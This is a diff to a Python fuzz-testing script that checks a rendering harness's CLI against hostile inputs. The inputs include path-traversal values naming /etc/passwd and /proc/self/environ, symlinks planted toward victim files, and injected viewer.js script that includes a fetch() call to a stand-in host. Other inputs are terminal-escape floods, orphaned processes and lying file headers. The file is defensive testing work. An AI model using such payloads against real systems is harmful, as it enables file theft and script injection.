@@ -6,10 +6,24 @@
     HARNESS_FUZZ=long pytest tests/cli/test_fuzz.py                  # the same 10,000 inputs as a test (fails on any)
 
 Each input is a folder of files (a scene, a suite, a renderer file, a results.json, a baseline, EXR files, meshes,
-environment maps) and one call: a command line for ``harness.cli.main`` or a loader (``load_scene``, ``load_suite``,
-``external.load_spec``). It runs in a child forked from this process, which has imported the harness and compiled
-the reference renderer's kernels once, so an input costs milliseconds, not the ~1 s of a fresh interpreter. The
-child works in the input's folder, its stdout and stderr go to files, its address space is capped
+environment maps; links and named pipes where it plants them) and one call: a command line for ``harness.cli.main``
+or a loader (``load_scene``, ``load_suite``, ``external.load_spec``). The folder ``WORK/ID/input`` has a sibling
+``WORK/ID/outside`` that nothing may reach: canary secrets (``secret.txt``, and behind a PNG's and an EXR's magic
+number, each holding a random token), a victim file and a victim folder. The untrusted-input families plant what
+would lead there: ``results_paths`` (``report`` and a resumed ``run`` over a results.json whose path fields name
+files outside, ``/proc/self/environ``, links in the run folder, named pipes, /dev/zero; a viewer.js carrying a
+script), ``planted_links`` (``run``, ``calibrate``, ``baseline save --run-out``, ``report`` writing into an output
+folder with links to the victim at ``.lock``, ``cases``, ``cases/<case>``, ``images``, ``studies``, results.json, the
+report's files), ``hostile_peers`` (``run --executor tcp://`` and ``view --tev`` against listeners this process
+starts: garbage, an HTTP answer, silence, a close at once, a huge frame length, nothing listening),
+``misbehaving_renderers`` (a renderer that floods its output, writes terminal escapes, leaves a grandchild running,
+writes NaN everywhere or an EXR that lies, outsleeps its timeout, ignores SIGTERM; a NUL in the command, a
+subnormal timeout) and ``mesh_references`` (OBJ ``mtllib`` and MTL ``map_Kd`` naming named pipes, devices, files
+outside, links out; PLYs whose header counts lie; an 8192 x 4096 environment map).
+
+Each input runs in a child forked from this process, which has imported the harness and compiled the reference
+renderer's kernels once, so an input costs milliseconds, not the ~1 s of a fresh interpreter. The child works in
+the input's folder, its stdout and stderr go to files, its address space is capped
 (``RLIMIT_AS``, ``--memory-gib``), the files it writes too (``RLIMIT_FSIZE``, 256 MiB), and it is killed after
 ``--timeout`` seconds. Mitsuba is not importable in the child (``--mitsuba`` allows it): the inputs exercise the
 harness's handling of them, and a Mitsuba JIT compile per input would cost seconds; commands that need Mitsuba end
@@ -21,17 +35,35 @@ Every input ends in exactly one outcome:
 ``error``       exit 2 with one line on stderr, ``harness: error: ...``, and nothing on stdout (a loader: a one-line
                 HarnessError naming the file it read or a file that file names)
 ``traceback``   an exception escaped (the child records it), or "Traceback" in the output
-``messy``       exit 2 but not one clean line, or another exit code
+``messy``       exit 2 but not one clean line, or another exit code; or not exit 0 where the input works (a
+                renderer that floods its stdout but writes its EXR), or output showing the harness failed at its
+                job (memory exhausted by a renderer's output or a lying EXR header), or more memory used than the
+                input allows (its peak resident size over the parent's: a 16 x 16 render of an 8192 x 4096 map)
 ``crash``       the child died of a signal (not the time limit)
 ``hang``        still running after ``--timeout`` seconds (killed with its process group)
 ``silent``      an input the generator knows is bad (a negative --spp, an unknown key, NaN where a number must be
-                finite, ...) ended in exit 0 or 1
+                finite, ...) ended in exit 0 or 1; or exit 0 where only a failure is right (a renderer that wrote NaN
+                everywhere), or a false claim on stdout ("sent ... to tev" to a peer that is not tev)
 
-``refused_valid`` counts inputs built from valid parts only that were refused anyway (a hint, not a failure), and
-``wrote_on_error`` refusals that left files behind in the input's folder (a hint: "nothing written" on bad input).
+``link_write``  a file or folder outside changed or appeared through a link the input planted (OUT/.lock -> victim)
+``escape``      anything else outside the input's folder created, changed or removed, a planted link turned to
+                another target, or a secret outside read (its access time moves: it lies before its change time)
+``copied``      a file the call wrote in the folder holds a canary token (the secret's, the environment's, raw or in
+                base64, or the run folder's script payload), or a link it wrote leads outside the folder
+``leftover_process`` a process the input started (its environment holds the input's canary, ``FUZZ_CANARY``) still
+                alive after the call ended, outside the child's process tree (a renderer's grandchild); killed
+``raw_escape``  stdout or stderr holds a raw ESC or a bidirectional override (a renderer's output reaching a terminal)
 
-Failing inputs (traceback, messy, crash, hang, silent) are kept in ``OUT/failures/ENTRY-NNNNN/``: the files, the
-call (``input.json``), what it printed and ``replay.sh``; ``--replay FOLDER`` runs one again in this process, so its
+The first four are what an input reached; they win over what the call printed (a run that wrote through a link and
+exited 0 is ``link_write``). Every outcome but ``pass`` and ``error`` is a failure. ``refused_valid`` counts inputs
+built from valid parts only that were refused anyway (a hint, not a failure), and
+``wrote_on_error`` refusals that left files behind in the input's folder (a hint: "nothing written" on bad input),
+``removed_link`` inputs whose planted links the call removed or replaced by its own file (a hint: nothing outside
+changed). The script starts its interpreter again with a run-wide canary in its environment (``FUZZ_RUN_CANARY``),
+so that a copy of a child's own /proc/self/environ shows too.
+
+Failing inputs are kept in ``OUT/failures/ENTRY-NNNNN/``: the files (``input/``, ``outside/``), the call
+(``input.json``), what it printed and ``replay.sh``; ``--replay FOLDER`` runs one again in this process, so its
 traceback shows. ``OUT/summary.json`` holds the counts per entry point and every failure; a table is printed at the
 end. Inputs come from ``random.Random(f"{seed}:{entry}:{index}")``: the same seed gives the same inputs.
 """
@@ -39,6 +71,7 @@ end. Inputs come from ``random.Random(f"{seed}:{entry}:{index}")``: the same see
 from __future__ import annotations
 
 import argparse
+import base64
 import dataclasses
 import faulthandler
 import gc
@@ -51,6 +84,9 @@ import resource
 import shlex
 import shutil
 import signal
+import socket
+import stat
+import subprocess
 import struct
 import sys
 import time
@@ -78,6 +114,7 @@ if __name__ == "__main__":
         os.environ.setdefault(_name, "1")
 
 import numpy as np  # noqa: E402
+import OpenEXR  # noqa: E402
 
 from harness.files import imageio  # noqa: E402
 from harness.scene.sky import sky_image  # noqa: E402
@@ -85,8 +122,9 @@ from harness.scene.load import MATERIAL_KEYS  # noqa: E402
 from tomltext import to_toml, without_none  # noqa: E402
 from harness.core.errors import HarnessError  # noqa: E402
 
-OUTCOMES = ("pass", "error", "traceback", "messy", "crash", "hang", "silent")
-FAILURES = ("traceback", "messy", "crash", "hang", "silent")
+OUTCOMES = ("pass", "error", "traceback", "messy", "crash", "hang", "silent", "escape", "link_write", "copied",
+            "leftover_process", "raw_escape")
+FAILURES = OUTCOMES[2:]
 NAN, INF = math.nan, math.inf
 
 # ---------------------------------------------------------------------------------------------------------------
@@ -216,6 +254,13 @@ class Input:
     valid: bool = False
     names: list[str] = dataclasses.field(default_factory=list)
     copies: dict[str, str] = dataclasses.field(default_factory=dict)  # name in the folder -> asset to copy
+    links: dict[str, str] = dataclasses.field(default_factory=dict)  # name in the folder -> its target (planted)
+    fifos: list[str] = dataclasses.field(default_factory=list)  # named pipes made in the folder
+    lies: list[str] = dataclasses.field(default_factory=list)  # text on stdout that would be a false claim
+    fails: list[str] = dataclasses.field(default_factory=list)  # why exit 0 would be wrong (exit 1 is right)
+    succeeds: str = ""  # why anything but exit 0 would be wrong (a renderer that works, however it behaves)
+    symptoms: list[str] = dataclasses.field(default_factory=list)  # output that shows the harness failed at its job
+    max_mib: int = 0  # where set: the most memory the call may add (its peak resident size over the parent's)
 
     @property
     def id(self) -> str:
@@ -223,7 +268,10 @@ class Input:
 
     def to_json(self) -> dict:
         return {"entry": self.entry, "index": self.index, "call": self.call, "bad": self.bad, "valid": self.valid,
-                "names": self.names, "dirs": self.dirs, "copies": self.copies, "files": sorted(self.files)}
+                "names": self.names, "dirs": self.dirs, "copies": self.copies, "files": sorted(self.files),
+                "links": self.links, "fifos": self.fifos, "lies": self.lies,
+                "fails": self.fails, "succeeds": self.succeeds, "symptoms": self.symptoms,
+                "max_mib": self.max_mib}
 
 
 class Assets:
@@ -1318,6 +1366,8 @@ class ExrMaker:
             "constant": (_exr(ones, ones), None), "huge-values": (_exr(ones * 6e4, ones), None),
             "zero-variance": (_exr(ones * 0.5, 0 * ones), None), "1x1": (_exr(ones[:1, :1], ones[:1, :1]), "bad"),
         }
+        lies = lying_exrs(assets)  # 400-digit variance_dof and spp, a second part of 100000 x 100000 pixels
+        self.made.update({name: (lies[f"{name}.exr"], None) for name in ("huge-dof", "huge-spp", "multipart-lie")})
 
     def make(self, rng: random.Random) -> tuple[bytes, str | None]:
         roll = rng.random()
@@ -1338,8 +1388,12 @@ class ExrMaker:
 
 
 def gen_compare(rng, assets, index) -> Input:
+    """``harness compare`` (and now and then ``harness view --no-tev``) of two EXR files: valid, corrupted,
+    truncated, synthesised, lying (a data window of 200000 pixels, 400-digit variance_dof and spp attributes, a
+    second part claiming 100000 x 100000 pixels), special paths."""
     maker = _EXR_MAKERS.setdefault(id(assets), ExrMaker(assets))
     inp = cli_input("compare", index, ["compare"])
+    inp.symptoms += OUT_OF_MEMORY  # a header's claims believed: the size must be checked before allocating
     paths = []
     same = rng.random() < 0.05  # one file as both test and reference
     for role in (("test", "reference"),) if same else ("test", "reference"):
@@ -1362,6 +1416,9 @@ def gen_compare(rng, assets, index) -> Input:
     argv += flags(rng, "--json")
     maybe_unknown_option(rng, inp, argv)
     inp.call += argv
+    if rng.random() < 0.15:  # harness view reads the same files (its page, not tev): nothing marked, no traceback
+        inp.call = ["cli", "view", *paths, "--no-tev", "--out", "v", "--quiet"]
+        inp.bad, inp.valid = [], False
     return inp
 
 
@@ -1521,6 +1578,397 @@ def gen_bench(rng, assets, index) -> Input:
     return inp
 
 
+# ---------------------------------------------------------------------------------------------------------------
+# Generators of untrusted run folders, planted links, hostile peers, misbehaving renderers and mesh references:
+# inputs that must not reach outside their folder (the oracles of Watch, leftover_processes and raw_escapes)
+
+RUN_CASES = ("furnace", "tiny", "furnace-mutant")
+#: values of a results.json path field that name something outside the run folder, or something not a file
+HOSTILE_FILE_PATHS = ["@OUTSIDE@/secret.exr", "@OUTSIDE@/secret.png", "@OUTSIDE@/secret.txt", "/proc/self/environ",
+                      "../outside/secret.exr", "run/../../outside/secret.exr", "../../outside/secret.exr",
+                      "run/cases/tiny/leak.exr", "run/cases/tiny/fifo.exr", "/dev/zero", "/etc/passwd",
+                      "@INPUT@/run/cases/tiny/pvalue.exr", "", ".", "..", "/", "run/cases/tiny"]
+HOSTILE_FOLDER_PATHS = ["@OUTSIDE@", "../outside", "../../outside", "run/../../outside", "run/leakdir",
+                        "/proc/self", "/etc", "/dev", "run/cases/tiny/fifo.exr", ".", "", "/",
+                        "@INPUT@/run/cases/tiny/images"]
+
+
+def _results_doc(assets: Assets) -> dict:
+    return json.loads(assets.texts["results.json"])
+
+
+def _plant_outside_helpers(inp: Input) -> None:
+    """The links and pipes that the hostile paths above may name: a link to the secret, one to the outside folder,
+    a named pipe."""
+    inp.links["run/cases/tiny/leak.exr"] = "@OUTSIDE@/secret.exr"
+    inp.links["run/leakdir"] = "@OUTSIDE@"
+    inp.fifos.append("run/cases/tiny/fifo.exr")
+
+
+def gen_results_paths(rng, assets, index) -> Input:
+    """``harness report`` and a resumed ``harness run`` over a run folder whose results.json names files and folders
+    outside it (absolute, ``..``, /proc/self/environ, links planted in the run folder, a named pipe, /dev/zero),
+    whose files are links out, named pipes or PNGs that are not, and whose viewer.js carries a script."""
+    inp = cli_input("results_paths", index, [])
+    inp.valid = False
+    add_run(inp, assets)
+    inp.files.update(assets.scene_files())
+    inp.files["suite.toml"] = assets.texts["suite.toml"].encode()
+    doc = _results_doc(assets)
+    helpers = False
+    for _ in range(rng.choice((1, 1, 2, 3))):
+        attack = rng.choice(("field", "field", "field", "link", "link", "fifo", "payload", "not-png"))
+        case_name = rng.choice(RUN_CASES)
+        case = next(c for c in doc["cases"] if c.get("name") == case_name)
+        case_dir = f"run/cases/{case_name}"
+        if attack == "field":
+            table, key = rng.choice((("verdict_maps", "pvalue"), ("verdict_maps", "failing"),
+                                     ("report_images", "folder"), ("viewer", "folder"), ("render", "exr"),
+                                     ("viewer", "data"), ("viewer", "thumbnail"), ("report_images", "images")))
+            if not isinstance(case.get(table), dict):
+                continue
+            if key == "folder":
+                case[table][key] = rng.choice(HOSTILE_FOLDER_PATHS)
+                if table == "report_images" and rng.random() < 0.7:  # names of the outside folder's secrets
+                    for image in case[table].get("images", []):
+                        image["png"], image["exr"] = "secret.png", "secret.exr"
+                elif table == "viewer" and rng.random() < 0.7:
+                    case[table]["data"], case[table]["thumbnail"] = "secret.txt", "secret.png"
+            elif key == "images":
+                for image in case[table].get("images", []):
+                    image[rng.choice(("png", "exr"))] = rng.choice(HOSTILE_FILE_PATHS)
+            else:
+                case[table][key] = rng.choice(HOSTILE_FILE_PATHS)
+            helpers = True
+        elif attack == "link":
+            name = rng.choice(("pvalue.exr", "failing.exr", "viewer.js", "thumbnail.png", "render.exr",
+                               "images/render.png", "images/render.exr", "images", ""))
+            path = f"{case_dir}/{name}".rstrip("/")
+            target = {".exr": "secret.exr", ".png": "secret.png", ".js": "secret.txt"}.get(Path(name).suffix, "")
+            _plant_link(inp, path, f"@OUTSIDE@/{target}".rstrip("/") if rng.random() < 0.8 else
+                        rng.choice(["/proc/self/environ", "/etc/passwd", "/dev/zero", _up(path) + target]))
+        elif attack == "fifo":
+            name = rng.choice(("pvalue.exr", "viewer.js", "thumbnail.png", "images/render.png", "render.exr"))
+            inp.files.pop(f"{case_dir}/{name}", None)
+            inp.fifos.append(f"{case_dir}/{name}")
+        elif attack == "payload":
+            text = assets.run_files[f"cases/{case_name}/viewer.js"].decode()
+            first, _, rest = text.partition("\n")
+            payload = rng.choice([f"\n;window.pwned = '{PAYLOAD}';\n", f"\n}});fetch('http://x/{PAYLOAD}');({{\n",
+                                  f"</script><script>alert('{PAYLOAD}')</script>"])
+            text = rng.choice([first + payload + rest, text + payload, text[:16] + payload])
+            inp.files[f"{case_dir}/viewer.js"] = text.encode()
+        else:  # a .png that is not a PNG (a page, an EXR's bytes, nothing)
+            name = rng.choice(("thumbnail.png", "images/render.png", "pvalue_thumbnail.png"))
+            inp.files[f"{case_dir}/{name}"] = rng.choice([b"<html><script>alert(1)</script></html>",
+                                                         assets.blobs["good.exr"], b"", b"\x89PNG\r\n\x1a\n"])
+    if helpers:
+        _plant_outside_helpers(inp)
+    _settle(inp)
+    inp.files["run/results.json"] = json.dumps(doc).encode()
+    if rng.random() < 0.7:
+        argv = ["report", "run/results.json", "--no-convergence", "--no-shadow-rays", "--no-strategies", "--quiet"]
+        if rng.random() < 0.5:
+            argv += ["--out", "rep"]
+    else:  # the run resumes over the planted results.json (its suite is the same), then writes its report
+        argv = ["run", "suite.toml", "--out", "run", "--executor", "serial", "--quiet", "--no-studies"]
+        if rng.random() < 0.4:
+            argv.append("--no-report")
+    inp.call += argv
+    return inp
+
+
+def _up(name: str) -> str:
+    """The relative target of a link at ``name`` (in the input's folder) that leads to the outside folder."""
+    return "../" * (name.count("/") + 1) + "outside/"
+
+
+def _settle(inp: Input) -> None:
+    """One thing at each path: a planted link wins over what lies at or below it, a named pipe over a file."""
+    def covered(name: str, by) -> bool:
+        return any(name == other or name.startswith(other + "/") for other in by)
+
+    inp.fifos = sorted({f for f in inp.fifos if not covered(f, inp.links)})
+    inp.files = {n: d for n, d in inp.files.items() if not covered(n, inp.links) and n not in inp.fifos}
+
+
+def _plant_link(inp: Input, name: str, target: str) -> None:
+    """A link at ``name`` (what the input held there, and below it, goes); never below another planted link."""
+    if any(name == other or name.startswith(other + "/") or other.startswith(name + "/") for other in inp.links):
+        return
+    for existing in [n for n in inp.files if n == name or n.startswith(name + "/")]:
+        del inp.files[existing]
+    inp.dirs = [d for d in inp.dirs if d != name and not d.startswith(name + "/")]
+    inp.fifos = [f for f in inp.fifos if f != name and not f.startswith(name + "/")]
+    inp.links[name] = target
+
+
+#: where a command writes in its output folder: links planted there must be neither followed nor removed
+PLANTED_LINK_PLACES = {
+    "run": [".lock", "cases", "cases/tiny", "cases/furnace", "cases/tiny/images", "studies", "results.json",
+            "index.html", "report.json", "summary.md", "cases/tiny/render.exr", "cases/tiny/viewer.js",
+            "cases/furnace/pvalue.exr", "report"],
+    "calibrate": [".lock", "calibration.json", "calibration.md", "cases", "cases/furnace"],
+    "baseline": [".lock", "cases", "cases/furnace", "cases/tiny", "results.json", "studies", "cases/tiny/images"],
+    "report": ["index.html", "report.json", "summary.md", "report", "tiny", "furnace", "studies", ".lock"],
+}
+
+
+def gen_planted_links(rng, assets, index) -> Input:
+    """``run``, ``calibrate``, ``baseline save --run-out`` and ``report`` writing into an output folder where links
+    to a victim outside were planted (at ``.lock``, ``cases``, ``cases/<case>``, ``images``, ``studies``,
+    results.json, the report's files), some dangling."""
+    inp = cli_input("planted_links", index, [])
+    inp.valid = False
+    inp.files.update(assets.scene_files())
+    inp.files["suite.toml"] = assets.texts["suite.toml"].encode()
+    command = rng.choice(("run", "run", "run", "calibrate", "baseline", "report"))
+    out = "out"
+    if command == "run":
+        argv = ["run", "suite.toml", "--out", out, "--executor", "serial", "--quiet", "--no-studies"]
+        argv += flags(rng, "--no-report", "--fresh", p=0.3)
+    elif command == "calibrate":
+        doc = tomllib.loads(assets.texts["suite.toml"])
+        doc["cases"] = [c for c in doc["cases"] if c["name"] == "furnace"]
+        inp.files["suite.toml"] = to_toml(doc).encode()
+        argv = ["calibrate", "suite.toml", "--seeds", "1", "--out", out, "--quiet"]
+    elif command == "baseline":
+        argv = ["baseline", "save", "suite.toml", "--out", "b.json", "--run-out", out, "--quiet"]
+    else:
+        add_run(inp, assets)
+        inp.files["run/results.json"] = assets.texts["results.json"].encode()
+        argv = ["report", "run/results.json", "--out", out, "--no-convergence", "--no-shadow-rays",
+                "--no-strategies", "--quiet"]
+    if command in ("run", "baseline") and rng.random() < 0.4:  # an earlier run's folder to resume
+        for name, data in assets.run_files.items():
+            inp.files[f"{out}/{name}"] = data
+        inp.files[f"{out}/results.json"] = assets.texts["results.json"].encode()
+    inp.dirs.append(out)
+    places = PLANTED_LINK_PLACES[command]
+    for place in rng.sample(places, rng.choice((1, 1, 1, 2))):
+        folder_like = "." not in Path(place).name or place in ("studies",)
+        if folder_like and rng.random() < 0.85:
+            target = "@OUTSIDE@/victim-dir"
+        else:
+            target = rng.choice(["@OUTSIDE@/victim.txt", "@OUTSIDE@/victim.txt", "@OUTSIDE@/new-file",
+                                 _up(f"{out}/{place}") + "victim.txt", "@OUTSIDE@/victim-dir"])
+        _plant_link(inp, f"{out}/{place}", target)
+    inp.call += argv
+    return inp
+
+
+#: the hostile listeners' shares (each silent one costs a connection timeout)
+PEER_WEIGHTS = {"garbage": 25, "http": 20, "close": 20, "huge": 15, "refused": 16, "silent": 4}
+
+
+def gen_hostile_peers(rng, assets, index) -> Input:
+    """``run --executor tcp://127.0.0.1:PORT`` and ``view --tev 127.0.0.1:PORT`` against listeners that are not a
+    Dask scheduler or tev (:func:`start_peers`): garbage, an HTTP answer, silence, a close at once, a huge frame
+    length, nothing listening."""
+    inp = cli_input("hostile_peers", index, [])
+    kind = rng.choices(list(PEER_WEIGHTS), weights=list(PEER_WEIGHTS.values()))[0]
+    address = f"127.0.0.1:@PEER:{kind}@"
+    if rng.random() < 0.5:
+        inp.files.update(assets.scene_files())
+        doc = tomllib.loads(assets.texts["suite.toml"])
+        doc["cases"] = [c for c in doc["cases"] if c["name"] == "furnace"]
+        inp.files["suite.toml"] = to_toml(doc).encode()
+        inp.call += ["run", "suite.toml", "--out", "out", "--executor", f"tcp://{address}", "--quiet", "--no-report"]
+        inp.bad.append(f"--executor names a {kind} peer, not a Dask scheduler")
+    else:
+        inp.files["good.exr"] = assets.blobs["good.exr"]
+        inp.files["ref.exr"] = assets.blobs["ref.exr"]
+        inp.call += ["view", "good.exr", *(["ref.exr"] if rng.random() < 0.5 else []), "--tev", address,
+                     "--out", "v", *flags(rng, "--quiet")]
+        if kind in ("garbage", "http", "huge", "close"):  # tev answers nothing and keeps the connection
+            inp.lies.append("to tev at")
+    return inp
+
+
+SLEEPER = "[sys.executable, '-c', 'import time; time.sleep(30)']"  # a grandchild that outlives its renderer
+COPY_GOOD = "shutil.copy(os.path.join(here, 'good.exr'), out)\n"
+MISBEHAVIOURS = {  # kind: (the renderer script's body after `out, here = sys.argv[1:3]`, certainly bad for render)
+    "flood-stdout": ("chunk = b'x' * 2**20 + b'\\n'\nfor _ in range(1400):\n    os.write(1, chunk)\n"
+                     "shutil.copy(os.path.join(here, 'good.exr'), out)\n", False),
+    "flood-stderr": ("chunk = b'y' * 2**20 + b'\\n'\nfor _ in range(1400):\n    os.write(2, chunk)\nsys.exit(3)\n",
+                     True),
+    "escapes-fail": ("sys.stderr.write('\\x1b[2J\\x1b]0;pwned\\x07 \\u202eevil\\u202c done \\x1b[31m\\n')\n"
+                     "sys.exit(4)\n",
+                     True),
+    "escapes-ok": ("print('\\x1b[31mred\\x1b[0m \\u2067x\\u2069')\nsys.stderr.write('\\x1b[2K\\u202e\\n')\n"
+                   "shutil.copy(os.path.join(here, 'good.exr'), out)\n", False),
+    "grandchild": (f"subprocess.Popen({SLEEPER}, start_new_session=True, **QUIET)\n{COPY_GOOD}", False),
+    "grandchild-group": (f"subprocess.Popen({SLEEPER}, **QUIET)\n{COPY_GOOD}", False),
+    "grandchild-fail": (f"subprocess.Popen({SLEEPER}, start_new_session=True, **QUIET)\nsys.exit(1)\n", True),
+    "nan": ("shutil.copy(os.path.join(here, 'nan-everywhere.exr'), out)\n", True),
+    "not-exr": ("open(out, 'wb').write(b'not an EXR at all')\n", True),
+    "lying-window": ("shutil.copy(os.path.join(here, 'lying-window.exr'), out)\n", True),
+    "multipart-lie": ("shutil.copy(os.path.join(here, 'multipart-lie.exr'), out)\n", False),
+    "huge-dof": ("shutil.copy(os.path.join(here, 'huge-dof.exr'), out)\n", False),
+    "sleep": ("time.sleep(60)\n", True),
+    "ignore-term": ("signal.signal(signal.SIGTERM, signal.SIG_IGN)\ntime.sleep(60)\n", True),
+    "nul-command": ("shutil.copy(os.path.join(here, 'good.exr'), out)\n", True),
+    "tiny-timeout": ("shutil.copy(os.path.join(here, 'good.exr'), out)\n", True),
+}
+#: what the output shows where the harness ran out of memory (on the address-space cap of the child)
+OUT_OF_MEMORY = ["Cannot allocate memory", "MemoryError", "Unable to allocate"]
+#: misbehaviours after which the renderer still writes its EXR: the render must succeed
+WORKING_MISBEHAVIOURS = ("flood-stdout", "escapes-ok", "grandchild", "grandchild-group")
+SCRIPT_HEAD = ("import os, shutil, signal, subprocess, sys, time\nout, here = sys.argv[1:3]\n"
+               "QUIET = dict(stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n")
+
+
+def lying_exrs(assets: Assets) -> dict[str, bytes]:
+    """EXR files that lie: NaN everywhere, a data window of 100000 x 100000, a second part that claims 100000 x
+    100000, 400-digit variance_dof and spp attributes (made once)."""
+    if "huge-dof.exr" in assets.blobs:
+        return {k: assets.blobs[k] for k in ("nan-everywhere.exr", "lying-window.exr", "multipart-lie.exr",
+                                              "huge-dof.exr", "huge-spp.exr")}
+    ones = np.ones((16, 16, 3), np.float32)
+    made = {"nan-everywhere.exr": _exr(np.full_like(ones, np.nan), ones),
+            "lying-window.exr": _patch_window(assets.blobs["good.exr"], 99999, 99999),
+            "multipart-lie.exr": _multipart_lie(),
+            "huge-dof.exr": _exr(ones, 0.01 * ones, metadata={"variance_dof": "9" * 400, "spp": "16"}),
+            "huge-spp.exr": _exr(ones, 0.01 * ones, metadata={"spp": "9" * 400})}
+    assets.blobs.update(made)
+    return made
+
+
+def _multipart_lie() -> bytes:
+    """A two-part EXR whose second part's data window claims 100000 x 100000 pixels."""
+    path = Path(f"/tmp/harness-fuzz-multipart-{os.getpid()}.exr")
+    header = {"compression": OpenEXR.ZIP_COMPRESSION, "type": OpenEXR.scanlineimage}
+    parts = [OpenEXR.Part(dict(header), {"RGB": np.ones((16, 16, 3), np.float32)}, name=name) for name in ("a", "b")]
+    try:
+        OpenEXR.File(parts).write(str(path))
+        data = path.read_bytes()
+    finally:
+        path.unlink(missing_ok=True)
+    key = b"dataWindow\x00box2i\x00"
+    second = data.index(key, data.index(key) + 1) + len(key) + 4
+    return data[:second] + struct.pack("<4i", 0, 0, 99999, 99999) + data[second + 16:]
+
+
+def gen_misbehaving_renderers(rng, assets, index) -> Input:
+    """``render`` (and ``run``) with an external renderer that misbehaves: floods stdout or stderr, writes terminal
+    escapes, leaves a grandchild running, writes NaN everywhere or an EXR that lies, outsleeps a short timeout,
+    ignores SIGTERM; renderer files with a NUL in the command or a subnormal timeout."""
+    inp = cli_input("misbehaving_renderers", index, [])
+    inp.valid = False
+    kind = rng.choice(sorted(MISBEHAVIOURS))
+    body, bad = MISBEHAVIOURS[kind]
+    inp.files.update(assets.scene_files())
+    inp.files["good.exr"] = assets.blobs["good.exr"]
+    inp.files.update(lying_exrs(assets))
+    inp.files["r.py"] = (SCRIPT_HEAD + body).encode()
+    inp.symptoms += OUT_OF_MEMORY  # a flood held whole, or a lying EXR header believed
+    script = "{here}/r.py\\u0000x" if kind == "nul-command" else "{here}/r.py"
+    timeout = {"sleep": "0.5", "ignore-term": "0.5", "tiny-timeout": "5e-324"}.get(kind, "10")
+    inp.files["renderer.toml"] = (f'name = "misbehaving"\ncommand = ["{{python}}", "{script}", "{{out}}", "{{here}}"]\n'
+                                  f"timeout = {timeout}\nrepeats = 2\n").encode()
+    if rng.random() < 0.8:
+        inp.call += ["render", "tiny.toml", "--renderer", "renderer.toml", "--spp", "2", "--out", "out.exr",
+                     *flags(rng, "--quiet", "--json")]
+        if kind in ("nul-command", "tiny-timeout"):  # the renderer file itself is bad: refused when loaded
+            inp.bad.append(f"the renderer file is bad: {kind}")
+        elif bad:  # the render fails (exit 1, one line), or the command refuses it
+            inp.fails.append(f"the renderer misbehaves: {kind}")
+        elif kind in WORKING_MISBEHAVIOURS:
+            inp.succeeds = f"the renderer works ({kind})"
+    else:
+        doc = tomllib.loads(assets.texts["suite.toml"])
+        doc["cases"] = [dict(c, renderer="renderer.toml") for c in doc["cases"] if c["name"] == "tiny"]
+        inp.files["suite.toml"] = to_toml(doc).encode()
+        inp.call += ["run", "suite.toml", "--out", "out", "--executor", "serial", "--quiet", "--no-report"]
+        if kind in ("nul-command", "tiny-timeout"):
+            inp.bad.append(f"the renderer file is bad: {kind}")
+    return inp
+
+
+#: names an OBJ's mtllib or an MTL's map_Kd may give: named pipes, devices, files outside, absolute paths, links out
+MESH_REFERENCES = ["fifo", "/dev/zero", "@OUTSIDE@/secret.txt", "../outside/secret.txt", "/etc/passwd",
+                   "link-out", "missing.mtl", "sub", "ok.mtl", "/proc/self/environ", "../outside/secret.png"]
+MESH_SCENE_TAIL = '\n[[shapes]]\nname = "m"\ntype = "mesh"\nmaterial = "white"\nfile = "{file}"\n'
+#: the huge environment map's size (height, width): 8192 x 4096 compresses to little
+HUGE_ENVMAP = (4096, 8192)
+_HUGE_ENVMAPS: dict[tuple, bytes] = {}
+
+
+def _reference(inp: Input, name: str, fifo_name: str) -> str:
+    """The text an OBJ or MTL names for ``name``, planting the pipe, link or folder it needs."""
+    if name == "fifo":
+        inp.fifos.append(fifo_name)
+        return fifo_name
+    if name == "link-out":
+        inp.links["link-out.mtl"] = "@OUTSIDE@/secret.txt"
+        return "link-out.mtl"
+    if name == "sub":
+        inp.dirs.append("sub")
+    return name
+
+
+def _ply(binary: bool, faces_claimed: int, faces_written: int, vertices_claimed: int = 3) -> bytes:
+    fmt = "binary_little_endian" if binary else "ascii"
+    header = (f"ply\nformat {fmt} 1.0\nelement vertex {vertices_claimed}\nproperty float x\nproperty float y\n"
+              f"property float z\nelement face {faces_claimed}\nproperty list uchar int vertex_indices\nend_header\n")
+    vertices = [(0, 0, 0), (1, 0, 0), (0, 1, 0)]
+    if binary:
+        body = b"".join(struct.pack("<3f", *v) for v in vertices)
+        body += struct.pack("<B3i", 3, 0, 1, 2) * faces_written
+    else:
+        body = "".join(f"{x} {y} {z}\n" for x, y, z in vertices).encode() + b"3 0 1 2\n" * faces_written
+    return header.encode() + body
+
+
+def gen_mesh_references(rng, assets, index) -> Input:
+    """Scenes whose mesh files name other files: an OBJ's ``mtllib`` and its MTL's ``map_Kd`` naming a named pipe,
+    /dev/zero, a file outside, an absolute path, a link out; PLYs whose header counts lie (ASCII and binary); an
+    environment map of 8192 x 4096 pixels that compresses to little. Loaded, rendered or exported."""
+    inp = Input("mesh_references", index, [])
+    inp.files.update(assets.scene_files())
+    roll = rng.random()
+    base = assets.texts["tiny.toml"]
+    if roll < 0.55:  # OBJ + MTL
+        obj = "v 0 0 0\nv 1 0 0\nv 0 1 0\nvt 0 0\nvt 1 0\nvt 0 1\nusemtl a\nf 1/1 2/2 3/3\n"
+        if rng.random() < 0.5:
+            mtllib = _reference(inp, rng.choice(MESH_REFERENCES), "fifo.mtl")
+            texture = "tex.png"
+        else:
+            mtllib = "ok.mtl"
+            texture = _reference(inp, rng.choice(MESH_REFERENCES), "fifo.png")
+        inp.files["ok.mtl"] = f"newmtl a\nKd 0.5 0.5 0.5\nmap_Kd {texture}\n".encode()
+        inp.files["tex.png"] = b"\x89PNG\r\n\x1a\n"
+        inp.files["m.obj"] = f"mtllib {mtllib}\n{obj}".encode()
+        inp.files["scene.toml"] = (base + MESH_SCENE_TAIL.format(file="m.obj")).encode()
+    elif roll < 0.9:  # a PLY whose header lies
+        binary = rng.random() < 0.5
+        faces_claimed, faces_written, vertices = rng.choice([(1000, 511, 3), (10**9, 1, 3), (1, 1, 10**9),
+                                                             (1000, 0, 3), (2, 1, 3), (1, 1, 3)])
+        inp.files["lie.ply"] = _ply(binary, faces_claimed, faces_written, vertices)
+        if (faces_claimed, faces_written, vertices) != (1, 1, 3):
+            inp.bad.append(f"{'binary' if binary else 'ASCII'} PLY claims {faces_claimed} faces and {vertices} "
+                           f"vertices, holds {faces_written} faces")
+        inp.files["scene.toml"] = (base + MESH_SCENE_TAIL.format(file="lie.ply")).encode()
